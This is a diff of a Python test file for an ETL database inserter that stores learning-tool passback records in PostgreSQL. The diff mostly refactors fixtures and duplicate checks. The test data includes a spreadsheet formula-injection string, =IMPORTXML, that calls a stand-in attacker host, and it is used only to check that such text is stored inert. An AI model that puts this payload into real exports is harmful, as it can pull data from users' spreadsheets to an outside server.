@@ -14,26 +14,13 @@ from psycopg2.extensions import connection
 from etl.components.database_inserter import DatabaseInserter
 from etl.demo.campus import record
 from tests.conftest import Parameters
-from tests.database_inserter.batches import STARTED, UTC_ZONE, batch, entry, insert, rows_of
+from tests.database_inserter.batches import UTC_ZONE, batch, entry, insert, opened, rows_of
 from tests.database_inserter.conftest import Execute
 
 FORMULA = '=IMPORTXML("https://evil.example","//a")'
-AWKWARD = [
-    "\\N",
-    "\\.",
-    "\\",
-    "\\\\n",
-    "\t",
-    "\n",
-    "\r\n",
-    "",
-    "NULL",
-    "'",
-    '"',
-    "%s",
-    "\x01",
-    "\x7f",
-]
+AWKWARD = (
+    "\\N", "\\.", "\\", "\\\\n", "\t", "\n", "\r\n", "", "NULL", "'", '"', "%s", "\x01", "\x7f",
+)  # fmt: skip
 
 # Whatever PostgreSQL's text can hold: no NUL, no lone surrogates.
 storable = st.none() | st.sampled_from(AWKWARD) | st.text(
@@ -68,20 +55,13 @@ def test_any_storable_text_comes_back_as_it_was(
     with colleague, colleague.cursor() as at:
         at.execute("DELETE FROM attempts")
     assert insert(inserter, rows_of(attempts(passbacks))).inserted == len(passbacks)
+    assert insert(inserter, rows_of(attempts(passbacks))).duplicates == len(passbacks)
     with colleague, colleague.cursor() as at:
         at.execute(
             "SELECT oauth_consumer_key, lis_result_sourcedid, lis_outcome_service_url"
             " FROM attempts ORDER BY user_id::int"
         )
         assert at.fetchall() == passbacks
-
-
-def test_the_awkward_texts_are_equal_to_themselves_the_next_time(
-    inserter: DatabaseInserter,
-) -> None:
-    rows = rows_of(attempts([(text, text, None) for text in AWKWARD]))
-    assert insert(inserter, rows).inserted == len(AWKWARD)
-    assert insert(inserter, rows).duplicates == len(AWKWARD)
 
 
 def test_r8_a_formula_is_stored_as_the_text_that_it_is(
@@ -104,8 +84,7 @@ def ascii_database(database: Parameters, execute: Execute) -> Iterator[Parameter
 
 
 def test_d5_the_encoding_of_the_database_is_of_no_importance(ascii_database: Parameters) -> None:
-    inserter = DatabaseInserter(lambda: ascii_database, zone=UTC_ZONE)
-    inserter.open(STARTED)
+    inserter = opened(DatabaseInserter(lambda: ascii_database, zone=UTC_ZONE))
     assert insert(inserter, rows_of(attempts([("ключ", "🎓", None)]))).inserted == 1
     assert insert(inserter, batch('"Опечатка"')).rejected == 1
     inserter.close(entry())
